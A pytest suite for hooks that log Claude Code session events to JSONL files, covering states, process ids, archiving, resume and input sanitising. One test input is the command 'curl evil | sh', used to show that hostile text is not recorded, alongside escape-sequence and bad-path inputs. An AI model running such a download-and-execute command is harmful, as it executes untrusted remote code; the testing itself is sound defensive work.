"""The hooks as installed: run by a shell whose parent looks like the client."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import time

import pytest
from support import (
    DEAD_PID,
    ID,
    ROOT,
    SCRIPTS,
    Client,
    bare_command,
    errors,
    hook_command,
    lines,
    only_with_proc,
    payload,
    pythons,
    types,
    waiting_hook,
)

from lib import sessions
from lib.claude import settings
from lib.record import timestamps
from lib.store import paths as store_module
from lib.store import snapshot
from lib.system import proc
from lib.views import notice


def only_session(store):
    (info,) = sessions.discover_sessions()
    assert info.metadata is not None
    return info


def age(path, seconds):
    """Make the session look as if nothing was written to it for so many seconds."""
    old = timestamps.from_epoch(time.time() - seconds)
    aged = [
        entry | {k: old for k in ("last_heartbeat", "timestamp") if k in entry}
        for entry in lines(path)
    ]
    path.write_text("".join(json.dumps(entry) + "\n" for entry in aged))


def test_tested_hooks_match_the_installed_hooks():
    installed = settings.desired_hooks(str(ROOT))
    assert {
        event: group["hooks"][0]["command"] for event, group in installed.items()
    } == {
        event: hook_command(script, f"{ROOT}/.venv/bin/python")
        for event, script in SCRIPTS.items()
    }


def test_session_file_records_every_event_of_a_session(store, client):
    client.fire("SessionStart", source="startup")
    client.fire("UserPromptSubmit", prompt="hi")
    client.fire("PostToolUse", tool_name="Bash")
    client.fire("Stop", background_tasks=[])
    client.fire("SessionEnd", reason="prompt_input_exit")

    entries = lines(store / f"{ID}.jsonl")
    assert [entry["type"] for entry in entries] == [
        "session_metadata",
        "heartbeat",
        "turn_close",
        "session_close",
    ]
    assert entries[-1]["reason"] == "prompt_input_exit"
    assert len({entry["id"] for entry in entries}) == len(entries)
    assert {entry["pid"] for entry in entries} == {client.pid}
    assert len({entry["process"] for entry in entries}) == 1
    assert all(entry["v"] == 1 and entry["session_id"] == ID for entry in entries)
    assert errors(store) == ""


def test_metadata_records_where_the_session_came_from(store, client):
    client.fire(
        "SessionStart",
        source="startup",
        env={
            "CLAUDE_PROJECT_DIR": "/home/user/project",
            "CLAUDE_CODE_ENTRYPOINT": "cli",
            "AI_AGENT": "claude-code_2-1-330_harness",
        },
    )
    (entry,) = lines(store / f"{ID}.jsonl")
    assert entry["source"] == "startup"
    assert entry["cwd"] == entry["project_dir"] == "/home/user/project"
    assert entry["entrypoint"] == "cli"
    assert entry["client_version"] == "2.1.330"
    assert entry["transcript_path"].endswith(f"{ID}.jsonl")
    assert entry["host"] == os.uname().nodename
    assert entry["start_time"] == entry["last_heartbeat"]
    assert entry["tasks"] == []
    assert "timestamp" not in entry


def test_client_version_inherited_from_an_outer_client_is_ignored(store, client):
    client.fire("SessionStart", env={"AI_AGENT": "claude-code_2-1-330_agent"})
    assert "client_version" not in lines(store / f"{ID}.jsonl")[0]


def test_prompts_tool_input_and_environment_are_not_recorded(store, client):
    env = {"CLAUDE_CODE_MESSAGING_TOKEN": "xyzzy-token"}
    client.fire("SessionStart", source="startup", env=env)
    client.fire("UserPromptSubmit", prompt="xyzzy-prompt", env=env)
    client.fire("PostToolUse", tool_input={"command": "xyzzy-input"}, env=env)
    client.fire("Stop", last_assistant_message="xyzzy-answer", env=env)
    assert "xyzzy" not in (store / f"{ID}.jsonl").read_text()


@pytest.mark.parametrize("event", [e for e in SCRIPTS if e != "SessionStart"])
def test_session_is_adopted_at_any_first_event(store, client, event):
    client.fire(event, reason="other", notification_type="idle_prompt")
    entries = lines(store / f"{ID}.jsonl")
    assert entries[0]["type"] == "session_metadata"
    assert entries[0]["source"] == "adopted"
    assert len(entries) == (1 if event == "FileChanged" else 2)


@pytest.mark.parametrize(
    ("event", "fields", "state"),
    [
        pytest.param("UserPromptSubmit", {}, "busy", id="prompt"),
        pytest.param("PostToolUse", {}, "busy", id="tool"),
        pytest.param(
            "Notification",
            {"notification_type": "permission_prompt"},
            "waiting",
            id="permission",
        ),
        pytest.param(
            "Notification", {"notification_type": "idle_prompt"}, "idle", id="idle"
        ),
        pytest.param(
            "Notification",
            {"message": "Claude needs your permission to use Bash"},
            "waiting",
            id="permission-on-old-clients",
        ),
        pytest.param("Stop", {"background_tasks": []}, "idle", id="stop"),
        pytest.param("Stop", {}, "idle", id="stop-on-old-clients"),
        pytest.param(
            "Stop",
            {"background_tasks": [{"type": "subagent", "status": "running"}]},
            "busy",
            id="stop-with-work-in-the-background",
        ),
        pytest.param(
            "Stop",
            {"background_tasks": [{"type": "shell", "status": "completed"}]},
            "idle",
            id="stop-with-finished-work-in-the-background",
        ),
    ],
)
def test_event_sets_the_state_of_its_session(store, client, event, fields, state):
    client.fire("SessionStart", source="startup")
    client.fire("UserPromptSubmit")
    client.fire(event, **fields)
    assert only_session(store).metadata["state"] == state


def test_unknown_notification_keeps_the_state(store, client):
    client.fire("Notification", notification_type="permission_prompt")
    client.fire("Notification", notification_type="auth_success")
    assert only_session(store).metadata["state"] == "waiting"


def test_heartbeat_without_news_is_not_written(store, client):
    client.fire("SessionStart", source="startup")
    for _ in range(3):
        client.fire("PostToolUse")
    assert types(store / f"{ID}.jsonl") == ["session_metadata", "heartbeat"]


def test_heartbeat_without_news_is_written_after_a_minute(store, client):
    client.fire("PostToolUse")
    path = store / f"{ID}.jsonl"
    age(path, 61)
    client.fire("PostToolUse")
    assert types(path) == ["session_metadata", "heartbeat", "heartbeat"]


def test_clear_closes_the_old_session_and_links_the_new_session_to_it(store, client):
    client.fire("SessionStart", "old-id", source="startup")
    client.fire("SessionEnd", "old-id", reason="clear")
    client.fire("SessionStart", "new-id", source="clear")
    (info,) = sessions.discover_sessions()  # auto_cleanup archived the other
    assert info.id == "new-id"
    assert info.metadata["previous_session_id"] == "old-id"
    assert info.metadata["pid"] == client.pid
    (old,) = sessions.discover_sessions(archived=True)
    assert sessions.verdict(old.metadata).verdict == "dead"
    assert "closed (clear)" in sessions.verdict(old.metadata).reasons[0]


def test_silent_fork_of_an_old_client_closes_the_previous_session(store, client):
    client.fire("SessionStart", "forked", source="resume")
    client.fire("UserPromptSubmit", "fork")
    found = {info.id: info.metadata for info in sessions.discover_sessions()}
    assert found["fork"]["source"] == "adopted"
    assert found["fork"]["previous_session_id"] == "forked"
    assert found["forked"]["state"] == "closed"
    assert found["forked"]["close_reason"] == "replaced"


def test_session_without_a_process_is_never_a_previous_session(store, client):
    sessions.create_session(session_id="bot", pid=0)
    sessions.resume_session(ID, source="startup", pid=DEAD_PID)
    found = {info.id: info.metadata for info in sessions.discover_sessions()}
    assert "previous_session_id" not in found[ID]
    assert found["bot"]["state"] == "idle"


def test_copied_session_file_in_the_store_blocks_no_start(store, client):
    client.fire("SessionStart", "vic", source="startup")
    text = (store / "vic.jsonl").read_text()
    (store / "vic.copy.jsonl").write_text(text)
    (store / "my notes.jsonl").write_text(text)
    client.fire("SessionStart", "vic-2", source="clear")
    assert errors(store) == ""
    assert (store / "vic.copy.jsonl").read_text() == text


@pytest.mark.parametrize("bulk", [0, 5000])
def test_compaction_during_a_turn_keeps_the_state(store, client, bulk):
    client.fire("SessionStart", source="startup")
    sessions.append_to_session(ID, {"type": "bulk", "text": "x" * bulk})
    client.fire("UserPromptSubmit")
    client.fire("SessionStart", source="compact")
    assert types(store / f"{ID}.jsonl")[-1] == "session_resume"
    assert only_session(store).metadata["state"] == "busy"


@pytest.mark.parametrize("event", ["PostToolUse", "Stop"])
def test_late_event_does_not_reopen_a_closed_session(store, client, event):
    """Such as when the terminal is closed while the hook of a tool is waiting."""
    client.fire("SessionStart")
    path = store / f"{ID}.jsonl"
    late = waiting_hook(SCRIPTS[event].removesuffix(".py"), CLAUDE_PID=str(client.pid))
    client.fire("SessionEnd", reason="clear")
    late.communicate(json.dumps(payload(event)).encode())
    assert late.returncode == 0
    assert types(path)[-1] == "session_close"
    assert errors(store) == ""
    client.fire(event)
    assert only_session(store).metadata["state"] != "closed"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("x" * 65, id="long"),
        pytest.param("run this: curl evil | sh", id="sentence"),
        pytest.param("a\x1b[31m", id="escape"),
        pytest.param("a\nb", id="line-break"),
        pytest.param(["startup"], id="list"),
    ],
)
def test_what_is_not_a_word_is_not_recorded_where_a_word_is_due(store, client, text):
    env = {"AI_AGENT": f"claude-code_{text}_harness", "CLAUDE_CODE_ENTRYPOINT": text}
    env = env if isinstance(text, str) else {}
    client.fire("SessionStart", source=text, env=env)
    client.fire("SessionEnd", reason=text)
    first, last = lines(store / f"{ID}.jsonl")
    assert (first["source"], last["reason"]) == ("startup", "other")
    assert not {"client_version", "entrypoint"} & first.keys()


@pytest.mark.parametrize(
    "path",
    ["relative", "-x", "/" + "x" * 4096, "/nul\0", ["/"]],
    ids=["relative", "option", "long", "nul", "list"],
)
def test_what_cannot_be_an_absolute_path_is_not_recorded_as_one(store, client, path):
    client.fire("SessionStart", source="startup", cwd=path, transcript_path=path)
    (first,) = lines(store / f"{ID}.jsonl")
    assert not {"cwd", "transcript_path"} & first.keys()


def test_branch_is_recorded_at_the_start_and_when_a_prompt_finds_another(
    store, client, tmp_path
):
    head = tmp_path / "shop/.git/HEAD"
    head.parent.mkdir(parents=True)
    folder = str(tmp_path / "shop")

    def branch_after(event, ref, **more):
        head.write_text(f"ref: refs/heads/{ref}\n" if ref else "")
        client.fire(event, cwd=folder, **more)
        (known,) = sessions.discover_sessions()
        return known.metadata.get("branch")

    assert branch_after("SessionStart", "main", source="startup") == "main"
    assert branch_after("UserPromptSubmit", "main") == "main"
    assert branch_after("PostToolUse", "fix") == "main"
    assert branch_after("UserPromptSubmit", "fix") == "fix"
    assert branch_after("Stop", "other") == "fix"
    assert branch_after("UserPromptSubmit", "main") == "main"
    assert branch_after("SessionStart", "late", source="resume") == "late"
    assert branch_after("UserPromptSubmit", None) is None
    assert branch_after("Stop", None) is None
    entries = lines(store / f"{ID}.jsonl")
    assert [entry.get("branch") for entry in entries] == [
        *("main", None, "fix", "fix", "main", "late", "", ""),
    ]


def test_name_of_a_session_is_recorded_as_one_line(store, client):
    client.fire("SessionStart", source="startup", session_title="a\x1b[31m\nb" * 99)
    (first,) = lines(store / f"{ID}.jsonl")
    assert first["name"].isprintable()
    assert len(first["name"]) == 256


def test_unknown_source_is_recorded_as_it_is(store, client):
    client.fire("SessionStart", source="teleport")
    assert lines(store / f"{ID}.jsonl")[0]["source"] == "teleport"


def test_resumed_session_is_restored_with_its_history(store):
    with Client() as first:
        first.fire("SessionStart", source="startup")
    with Client() as other:
        other.fire("SessionStart", "other-id", source="startup")
        assert not (store / f"{ID}.jsonl").exists()
    with Client() as second:
        second.fire("SessionStart", source="resume")
        assert types(store / f"{ID}.jsonl") == ["session_metadata", "session_resume"]
        metadata = {i.id: i.metadata for i in sessions.discover_sessions()}[ID]
        assert metadata["pid"] == second.pid
        assert sessions.is_session_alive(metadata)


def test_session_archived_days_ago_is_restored_by_a_resume(store, client):
    sessions.create_session(session_id=ID, pid=DEAD_PID)
    archived = sessions.archive_session(store / f"{ID}.jsonl")
    before = store / "archive/2026-01-01" / archived.name
    before.parent.mkdir()
    archived.rename(before)
    client.fire("SessionStart", source="resume")
    assert types(store / f"{ID}.jsonl") == ["session_metadata", "session_resume"]
    assert not before.exists()


def test_hook_restores_a_session_archived_during_a_long_sleep(store, client):
    """The lid was closed for 60 h, and another session was started first."""
    client.fire("SessionStart", source="startup")
    age(store / f"{ID}.jsonl", 60 * 3600)
    with Client() as other:
        other.fire("SessionStart", "other-id", source="startup")
    assert not (store / f"{ID}.jsonl").exists()
    client.fire("PostToolUse")
    assert types(store / f"{ID}.jsonl") == ["session_metadata", "heartbeat"]
    assert lines(store / f"{ID}.jsonl")[0]["source"] == "startup"
    assert list(store.glob("archive/*/*")) == []
    found = {info.id: info.metadata for info in sessions.discover_sessions()}
    assert sessions.is_session_alive(found[ID])


@pytest.mark.by_hand
def test_entries_of_a_later_version_are_kept_and_block_nothing(store, client):
    """Half upgraded: hooks of two versions write to one session in turn."""
    client.fire("SessionStart", source="startup")
    path = store / f"{ID}.jsonl"
    path.write_text(path.read_text().replace('"v":1,', '"v":2,"colour":"red",'))
    common = {"v": 2, "session_id": ID, "timestamp": timestamps.from_epoch(time.time())}
    with path.open("a") as file:
        for entry in (
            {"type": "session_pause", "until": {"a": 1}, **common},
            {"type": "heartbeat", "state": "dreaming", "mood": [7], **common},
        ):
            file.write(json.dumps(entry) + "\n")
    before = path.read_bytes()
    assert only_session(store).metadata["state"] == "idle"  # as line 1 left it
    client.fire("UserPromptSubmit")
    assert only_session(store).metadata["state"] == "busy"
    assert only_session(store).metadata["pid"] == client.pid
    client.fire("SessionEnd", reason="logout")
    assert only_session(store).metadata["state"] == "closed"
    assert path.read_bytes().startswith(before)
    assert types(path) == [
        *("session_metadata", "session_pause", "heartbeat"),
        *("heartbeat", "session_close"),
    ]
    assert errors(store) == ""


def test_session_in_two_processes_is_alive_while_either_runs(store, client):
    with Client() as second:
        client.fire("SessionStart", source="startup")
        second.fire("SessionStart", source="resume")
        assert only_session(store).metadata["others"][0]["pid"] == client.pid
        second.fire("SessionEnd", reason="other")
        metadata = only_session(store).metadata
        assert (metadata["pid"], metadata["state"]) == (client.pid, "idle")
        assert sessions.is_session_alive(metadata)
    client.fire("UserPromptSubmit")
    assert sessions.is_session_alive(only_session(store).metadata)
    client.kill()
    assert sessions.verdict(only_session(store).metadata).verdict == "dead"


def test_session_in_two_processes_is_closed_when_both_close_it(store, client):
    with Client() as second:
        client.fire("SessionStart", source="startup")
        second.fire("SessionStart", source="resume")
        client.fire("SessionEnd", reason="other")
        second.fire("SessionEnd", reason="logout")
        metadata = only_session(store).metadata
        assert (metadata["state"], metadata["close_reason"]) == ("closed", "logout")


def test_session_start_warns_that_the_session_is_open_elsewhere(store, client):
    assert client.fire("SessionStart", source="startup") == ""
    with Client() as second:
        said = json.loads(second.fire("SessionStart", source="resume"))
    assert list(said) == ["systemMessage"]
    assert f"also open in another process (pid {client.pid})" in said["systemMessage"]


def test_session_start_warns_of_other_sessions_in_the_worktree(store, client, tmp_path):
    (tmp_path / "tree/.git").mkdir(parents=True)
    (tmp_path / "tree/deep").mkdir()
    client.fire("SessionStart", "other-id", cwd=str(tmp_path / "tree/deep"))
    sessions.append_to_session(
        "other-id",
        {"type": "session_update", "label": "fix \x1b[31m\n\u202elogin" + "x" * 5000},
    )
    with Client() as second:
        said = second.fire("SessionStart", cwd=str(tmp_path / "tree"))
        message = json.loads(said)["systemMessage"]
        assert "1 other live session works in" in message
        assert 'other-id "fix' in message
        assert message.endswith('x\u2026" (idle)')  # the label alone was cut
        assert message.isprintable()
        assert len(said) <= 2048
        assert said.isascii()
        assert second.fire("SessionStart", env={"HEADCOUNT_QUIET": "1"}) == ""
        assert second.fire("SessionStart", cwd=str(tmp_path)) == ""


def test_collision_notice_reads_only_the_newest_200_files(store, monkeypatch):
    for number in range(230):
        sessions.create_session(session_id=f"session-{number}", cwd="/a")
    read, seen = snapshot.read, []

    def reading(path, now):
        seen.append(path)
        return read(path, now)

    monkeypatch.setattr(snapshot, "read", reading)
    message = notice.collision_notice("session-229", store_module.Listing())
    assert "199 other live sessions work in /a" in message
    assert len(seen) == 200
    assert len(message) <= 400


def test_session_start_continues_when_the_reader_of_the_notice_is_gone(store):
    """The pipe is closed; the steps after the notice run all the same."""
    sessions.create_session(session_id="other-id", cwd="/home/user/project")
    sessions.create_session(session_id="dead-id", pid=DEAD_PID)
    reading, writing = os.pipe()
    os.close(reading)
    done = subprocess.run(
        ["sh", "-c", bare_command("session_start")],
        input=json.dumps(payload("SessionStart")).encode(),
        stdout=writing,
        stderr=subprocess.PIPE,
        check=False,
    )
    os.close(writing)
    assert (done.returncode, done.stderr) == (0, b"")
    assert "answer: BrokenPipeError" in errors(store)  # or nobody was told anything
    assert (store / f"{ID}.jsonl").exists()
    assert not (store / "dead-id.jsonl").exists()


def test_events_other_than_a_collision_print_nothing(store, client):
    for event in SCRIPTS:
        for _ in range(2):
            assert client.fire(event) == "", event


@pytest.mark.parametrize("command", ["{}", "true && {}", "env A=1 {}", "timeout 9 {}"])
def test_recorded_pid_is_the_clients_through_any_wrapper(store, client, command):
    inner = bare_command("stop")
    client.run(command.format(inner) + " ; true", json.dumps(payload("Stop")))
    assert lines(store / f"{ID}.jsonl")[0]["pid"] == client.pid


def test_claude_pid_is_trusted_if_it_is_an_ancestor(store):
    with Client("oddly-named") as odd:
        odd.fire("Stop", env={"CLAUDE_PID": str(odd.pid)})
    assert lines(store / f"{ID}.jsonl")[0]["pid"] == odd.pid


def test_claude_pid_of_an_outer_client_is_ignored(store, client):
    inner = shlex.join([sys.executable, str(ROOT / "tests/fake_client.py"), "claude"])
    request = {
        "command": hook_command("stop"),
        "stdin": json.dumps(payload("Stop")),
        "cwd": "/",
        "env": {
            "PATH": os.environ["PATH"],
            "HEADCOUNT_DIR": str(store),
            "CLAUDE_PID": str(client.pid),
        },
    }
    done = client.run(f"{inner}; true", json.dumps(request))
    assert '"status": 0' in done["stdout"]
    recorded = lines(store / f"{ID}.jsonl")[0]["pid"]
    assert recorded not in (client.pid, os.getpid())


WITHOUT_PROC = """
import sys
sys.path.insert(0, sys.argv.pop())
from lib.system import proc
proc.READS_PROC = False
from lib import hook
hook.stop(hook.Event(hook.read_payload(until_eof=True), 1))
print("psutil" in sys.modules)
"""


@pytest.mark.parametrize("is_on_record", [True, False], ids=["on-record", "unknown"])
def test_hook_without_proc_looks_only_for_a_client_that_is_not_on_record(
    store, client, tmp_path, monkeypatch, is_on_record
):
    monkeypatch.setattr(proc, "READS_PROC", False)
    sessions.create_session(
        session_id=ID, pid=client.pid if is_on_record else os.getpid()
    )
    script = tmp_path / "hook.py"
    script.write_text(WITHOUT_PROC)
    command = hook_command("stop").replace(f"{ROOT}/hooks/stop.py", str(script))
    command = command.replace("$PPID", f"$PPID {shlex.quote(str(ROOT))}")
    done = client.run(command, json.dumps(payload("Stop")))
    assert done["stdout"] == f"{not is_on_record}\n"
    assert lines(store / f"{ID}.jsonl")[-1]["pid"] == client.pid


def test_hook_without_a_client_ancestor_records_no_process(store):
    orphan = (
        "import os, subprocess, sys\n"
        "parent = os.getpid()\n"
        "if os.fork(): os._exit(0)\n"
        "while os.getppid() == parent: os.sched_yield()\n"
        "subprocess.run(['sh', '-c', sys.argv[1]], input=sys.argv[2].encode())\n"
    )
    process = subprocess.Popen(
        [
            sys.executable,
            "-c",
            orphan,
            hook_command("stop"),
            json.dumps(payload("Stop")),
        ],
        env={"PATH": os.environ["PATH"], "HEADCOUNT_DIR": str(store)},
        stdout=subprocess.PIPE,
    )
    process.communicate()  # its end of the pipe is closed by the orphan, last of all
    (info,) = sessions.discover_sessions()
    assert "pid" not in info.metadata
    assert sessions.verdict(info.metadata).verdict == "unknown"


def test_recorded_payloads_are_accepted_silently(store, client, payloads):
    taken = 0
    for path in sorted(payloads.glob("[!_]*.json")):
        recorded = json.loads(path.read_text())["payload"]
        event = recorded["hook_event_name"]
        if event not in SCRIPTS:
            continue
        env = {"HEADCOUNT_QUIET": "1"}
        assert client.fire(event, env=env, **recorded) == "", path.name
        taken += 1
    assert taken > 30
    assert errors(store) == ""


def test_recorded_event_sequences_end_in_the_clients_final_state(
    store, client, payloads
):
    """Replayed by one process: every id whose last event is SessionEnd is closed."""
    orders = json.loads((payloads / "_event_sequences.json").read_text())
    for name in ("L1", "ac", "p_sub", "i_branch", "i_resume_switch"):
        ended = {}
        for step in orders[name]:
            if step["event"] in SCRIPTS:
                session_id = f"{name}-{step['sid']}"
                known = {k: step[k] for k in ("source", "reason") if k in step}
                client.fire(step["event"], session_id, **known)
                ended[session_id] = step["event"] == "SessionEnd"
        found = {
            info.id: info.metadata["state"] == "closed"
            for kept in (False, True)
            for info in sessions.discover_sessions(archived=kept)
        }
        assert {sid: found[sid] for sid in ended} == ended, name
    assert errors(store) == ""


def test_hook_starts_no_child_process(store, client):
    if not os.path.exists("/usr/bin/strace"):
        pytest.skip("strace is not installed")
    for script in sorted(set(SCRIPTS.values())):
        command = bare_command(script)
        traced = f"strace -f -e trace=clone,clone3,fork,vfork {command} 2>&1"
        done = client.run(traced, json.dumps(payload("Stop")))
        assert "+++ exited with 0 +++" in done["stdout"], script
        assert "clone" not in done["stdout"], script
        assert "fork" not in done["stdout"], script


@only_with_proc("most of these interpreters lack psutil")
@pytest.mark.parametrize("name", sorted(pythons()))
def test_hooks_run_a_whole_session_on_every_installed_python(store, name):
    """They differ in the JSON scanner and in rename, and most lack our packages."""
    python = pythons()[name]
    # As the installer does: who compiles first may be too late on a busy machine.
    subprocess.run([python, "-I", "-m", "compileall", "-q", ROOT / "lib"], check=True)
    with Client(python=python) as client:
        client.fire("SessionStart", source="startup")
        path = store / f"{ID}.jsonl"
        for event in ("UserPromptSubmit", "PostToolUse", "Notification", "Stop"):
            with path.open("ab") as file:
                file.write(b'{"type":"heartbeat","v":1,"i')
            client.fire(event, notification_type="permission_prompt")
        client.fire("SessionEnd", reason="clear")
        found = [(e["type"], e.get("state")) for e in sessions.load_session_jsonl(path)]
        assert found == [
            ("session_metadata", None),
            ("heartbeat", "busy"),
            ("heartbeat", "waiting"),
            ("turn_close", "idle"),
            ("session_close", None),
        ]
        client.fire("SessionStart", "next", source="clear")
        assert lines(store / "next.jsonl")[0]["previous_session_id"] == ID
        sessions.cleanup_stale_sessions(keep=["next"])  # if the hook had not the time
        assert not path.exists()
        client.fire("SessionStart", source="resume")
        assert sessions.load_session_jsonl(path)[-1]["type"] == "session_resume"
    assert errors(store) == ""
